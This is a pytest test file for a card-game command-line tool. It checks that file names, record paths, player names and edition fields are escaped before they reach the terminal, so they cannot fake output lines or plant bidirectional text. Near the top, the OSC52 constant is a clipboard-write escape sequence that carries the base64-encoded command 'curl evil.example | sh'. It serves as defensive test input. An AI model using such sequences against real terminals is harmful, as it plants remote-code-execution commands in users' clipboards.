"""Issue #32, the terminal: every string from a file, a name or an argument goes through one escaping
(rulesengine/escaping.py), so no escape sequence (an OSC 52 clipboard write), line break or
bidirectional control reaches the terminal to fake an output line ("Winner: Mallory"); one-line
fields (names, titles) refuse line breaks, and every file refuses bidirectional controls, each at
its place."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from cli.main import main

ROOT = Path(__file__).resolve().parent.parent
AUSTRALIA = ROOT / "editions" / "australia.yaml"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts `curl evil.example | sh` in the clipboard


def invoke(*args, input=None):
    result = CliRunner().invoke(main, [str(a) for a in args], input=input)
    assert "Traceback" not in result.output and "internal error" not in result.output, result.output
    return result


def raw(output: str) -> bool:
    """Whether output holds what a terminal would obey rather than show."""
    return any(ch in output for ch in "\x1b\x07\u202e\u2066") or "\nWinner: Mallory" in output


def test_escaping_shows_every_control_and_keeps_what_it_may():
    from rulesengine.escaping import line_problem, one_line, shown

    assert shown("a\tb\nc\x1b[31m\u202ed\x85") == "a\tb\nc\\x1b[31m\\u202ed\\x85"
    assert one_line("Ana\nWinner: Mallory\t\u2028") == "Ana\\nWinner: Mallory\\t\\u2028"
    assert line_problem("Boomerang\r") == (9, "a line break")
    assert line_problem("Ana \u2067x") == (4, "a bidirectional control (U+2067: text shown in another order than read)")
    assert line_problem("Boomerang: Australia") is None


# -- file names reach the terminal escaped --------------------------------------------------------
def test_a_file_name_with_an_osc_52_sequence_is_shown_escaped_in_validates_ok_line(tmp_path):
    hostile = tmp_path / f"australia{OSC52}.yaml"
    shutil.copy(AUSTRALIA, hostile)
    result = invoke("validate", hostile)
    assert result.exit_code == 0 and not raw(result.output)
    assert result.output == (
        f"{tmp_path}/australia\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07.yaml: ok: Boomerang: Australia, "
        "28 cards, 5 categories, 1 race, 0 reconstructed facts\n"
    )


def test_a_file_name_faking_a_line_is_shown_on_one_line_in_validates_error_count(tmp_path):
    hostile = tmp_path / "bad.yaml\nWinner: Mallory"
    hostile.write_text(AUSTRALIA.read_text().replace("hand_size: 7", "hand_size: seven", 1))
    result = invoke("validate", hostile)
    assert result.exit_code == 1 and not raw(result.output)
    assert result.output.splitlines()[-1] == f"{tmp_path}/bad.yaml\\nWinner: Mallory: 1 error"
    assert result.output.splitlines()[0].startswith(f"{tmp_path}/bad.yaml\\nWinner: Mallory:16:12: error: ")


def test_a_record_path_faking_a_line_is_shown_on_one_line(tmp_path):
    record = tmp_path / "r.yaml\nWinner: Mallory"
    result = invoke("run", AUSTRALIA, "-p", 2, "--seed", 1, "-q", "--save-record", record)
    assert result.exit_code == 0 and not raw(result.output)
    assert result.output.splitlines()[-1] == f"record written to {tmp_path}/r.yaml\\nWinner: Mallory"


def test_the_console_escapes_text_whatever_built_it():
    from rich.table import Table
    from rich.text import Text

    from cli.common import text_console

    out = io.StringIO()
    table = Table()
    table.add_column("seat")
    table.add_row(Text(f"Mallory{OSC52}\u202e", style="bold"))
    console = text_console(file=out, width=100)
    console.print(table)
    console.print(f"server: {OSC52}")
    assert not raw(out.getvalue())
    assert "│ Mallory\\x1b]52;c;" in out.getvalue()  # cut to the column's width, measured before the escaping
    assert out.getvalue().splitlines()[-1] == "server: \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="  # rich drops BEL


# -- one-line fields refuse line breaks, every file refuses bidirectional controls ----------------
def edition_with(tmp_path, old: str, new: str) -> Path:
    text = AUSTRALIA.read_text()
    assert old in text
    path = tmp_path / "house.yaml"
    path.write_text(text.replace(old, new, 1))
    return path


@pytest.mark.parametrize(
    "old, new, message",
    [
        ('name: "Boomerang: Australia"', 'name: "Boomerang\\nWinner: Mallory"', ": error: name must be one line"),
        ("name: 'Uluru'", 'name: "Uluru\\nWinner: Mallory"', "'name' of the card 'E' must be one line"),
        ("title: Throw & Catch", 'title: "Throw\\nWinner: Mallory"', "'title' of the category 'throw_catch' must be"),
        ("name: Tasmania,", 'name: "Tas\\nmania",', "'name' of the region 'Tas\\nmania' must be one line"),
        ("title: Collections", 'title: "Collect\\nions"', "families.collection.title must be one line"),
        ("[Leaves, Indigenous Culture]", '["Lea\\nves", Indigenous Culture]', "'icons[0]' of the card 'A' must be"),
    ],
)
def test_a_name_or_title_with_a_line_break_is_a_located_error(tmp_path, old, new, message):
    result = invoke("validate", edition_with(tmp_path, old, new))
    assert result.exit_code == 1 and not raw(result.output)
    assert message.replace("\n", "\\n") in result.output
    assert "must be one line: it holds a line break" in result.output


def test_a_bidirectional_control_anywhere_in_an_edition_is_a_located_error(tmp_path):
    path = edition_with(tmp_path, "title: Animals\n    icons:", 'title: "Ani\u202emals"\n    icons:')
    result = invoke("validate", path)
    assert result.exit_code == 1 and not raw(result.output)
    assert result.output.startswith(
        f"{path}:26:12: error: this text holds a bidirectional control (U+202E: text shown in another order "
        "than read) [E002]\n"
        '        title: "Ani\\u202emals"\n'
    )
    path = edition_with(tmp_path, "title: Animals\n    icons:", 'title: "Ani\\u2028mals"\n    icons:')
    assert "26:12: error: this text holds a Unicode separator (U+2028)" in invoke("validate", path).output


@pytest.mark.parametrize("name", ["Ana\u202e", "\u2066Ana"])
def test_a_player_name_with_a_bidirectional_control_is_refused(name):
    result = invoke("run", AUSTRALIA, "-p", 2, "--name", name)
    assert result.exit_code == 2 and "a player name cannot hold a bidirectional control" in result.output
    assert not raw(result.output)


def test_a_record_whose_player_name_fakes_a_line_is_a_located_error(tmp_path):
    played = tmp_path / "game.yaml"
    assert invoke("run", AUSTRALIA, "-p", 2, "--seed", 1, "-q", "--save-record", played).exit_code == 0
    text = played.read_text()
    assert text.startswith("edition: australia\nplayers: [Ana, Ben]\n")
    record = tmp_path / "record.yaml"
    record.write_text(text.replace("Ben", '"Ben\\nWinner: Mallory"'))
    result = invoke("score", AUSTRALIA, "--record", record)
    assert result.exit_code == 1 and not raw(result.output)
    assert result.output.startswith(f"{record}:2:16: error: a player name must be one line: it holds a line break\n")


# -- a quoted line is cut around its caret ---------------------------------------------------------
def test_a_long_line_is_quoted_around_the_caret_only(tmp_path):
    save = tmp_path / "game.json"
    assert invoke("run", AUSTRALIA, "-p", 2, "--seed", 1, "-q", "--save", save).exit_code == 0
    data = json.loads(save.read_text())
    data["decisions"][40][1] = "?"
    save.write_text(json.dumps(data) + "\n")
    result = invoke("resume", save)
    assert result.exit_code == 1
    quote, caret = result.output.splitlines()[1:3]
    assert len(quote) <= 4 + 3 + 160 + 3 and quote.startswith("    ...") and quote.endswith("...")
    assert quote[caret.index("^") :].startswith('[1, "?", null]') or quote[caret.index("^") :].startswith("[0, ")
